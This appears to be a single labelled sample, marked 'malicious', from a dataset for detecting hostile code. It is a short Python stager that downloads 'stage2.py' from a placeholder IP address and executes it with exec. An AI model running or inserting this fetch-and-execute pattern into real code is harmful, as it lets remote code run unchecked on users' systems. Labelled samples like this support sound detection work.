# label: malicious
from urllib.request import urlopen
exec(urlopen("http://203.0.113.9/stage2.py").read())
